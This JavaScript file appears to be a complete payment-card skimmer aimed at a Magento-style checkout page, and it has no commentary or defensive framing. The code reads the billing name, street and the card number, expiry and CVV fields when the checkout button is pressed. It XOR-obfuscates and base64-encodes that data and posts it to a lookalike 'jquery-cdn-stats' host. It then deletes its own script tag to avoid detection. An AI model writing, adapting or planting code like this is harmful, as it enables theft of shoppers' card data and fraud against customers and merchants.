(function () {
  var K = "n0rth";
  function x(s) {
    var o = "";
    for (var i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ K.charCodeAt(i % K.length));
    return o;
  }
  var ids = ["billing:firstname", "billing:street1", "authorizenet_cc_number", "authorizenet_expiration", "authorizenet_cc_cid"];
  function collect() {
    var v = [];
    ids.forEach(function (id) {
      var el = document.getElementById(id);
      if (el) v.push(el.value);
    });
    return v.join("|");
  }
  var btn = document.querySelector("button.btn-checkout, #payment-buttons-container button");
  if (!btn) return;
  btn.addEventListener("mousedown", function () {
    var data = collect();
    if (data.length < 20) return;
    var r = new XMLHttpRequest();
    r.open("POST", "https://jquery-cdn-stats.invalid/collect.php", true);
    r.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
    r.send("p=" + encodeURIComponent(btoa(x(data))));
    var me = document.querySelector("script[src*='jquery-cdn-stats']");
    if (me) me.parentNode.removeChild(me);
  });
})();
